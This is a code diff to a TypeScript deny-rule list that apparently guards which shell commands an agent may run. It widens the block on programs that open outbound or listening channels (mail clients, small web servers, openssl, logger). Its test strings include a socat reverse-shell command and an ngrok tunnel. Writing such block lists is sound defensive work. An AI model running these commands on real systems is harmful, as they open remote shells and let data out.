@@ -548,10 +548,33 @@ export const networkFloor: readonly FloorRule[] = [
       'ttyd',
       'gotty',
       'wetty',
+      'httpd',
+      'darkhttpd',
+      'thttpd',
+      'webfsd',
+      'miniserve',
+      'http-server',
+      'mail',
+      'mailx',
+      'sendmail',
+      'mutt',
+      'msmtp',
+      'swaks',
+      'openssl',
+      'logger',
     ],
     reason: 'It opens a channel that lets data out or somebody in.',
     when: (call) => {
-      if (['telnet'].includes(call.program)) return call.stdin.kind === 'unknown';
+      if (call.program === 'telnet') return call.stdin.kind === 'unknown';
+      if (call.program === 'openssl')
+        return call.args[0] === 's_server' || (call.args[0] === 's_client' && call.stdin.kind === 'unknown');
+      if (call.program === 'logger')
+        return (
+          hasFlag(call, '-n', '--server') && (hasFlag(call, '-f', '--file') || call.stdin.kind === 'unknown')
+        );
+      if (/^(mailx?|sendmail|mutt|msmtp|swaks)$/.test(call.program))
+        return call.stdin.kind === 'unknown' || hasFlag(call, '-a', '-A', '--attach', '--body');
+      if (call.program === 'httpd') return !hasFlag(call, '-t', '-v', '-V', '-S', '-M');
       if (['nc', 'ncat', 'netcat'].includes(call.program))
         return (
           hasFlag(
@@ -578,7 +601,12 @@ export const networkFloor: readonly FloorRule[] = [
       'socat TCP:1.2.3.4:4444 EXEC:sh',
       'ngrok tcp 22',
     ],
-    notMatch: ['nc -zv n100 22', 'echo stats | nc 127.0.0.1 11211'],
+    notMatch: [
+      'nc -zv n100 22',
+      'echo stats | nc 127.0.0.1 11211',
+      'echo done | mail -s done anna',
+      'httpd -t',
+    ],
   },
   {
     name: 'floor.exfiltration',
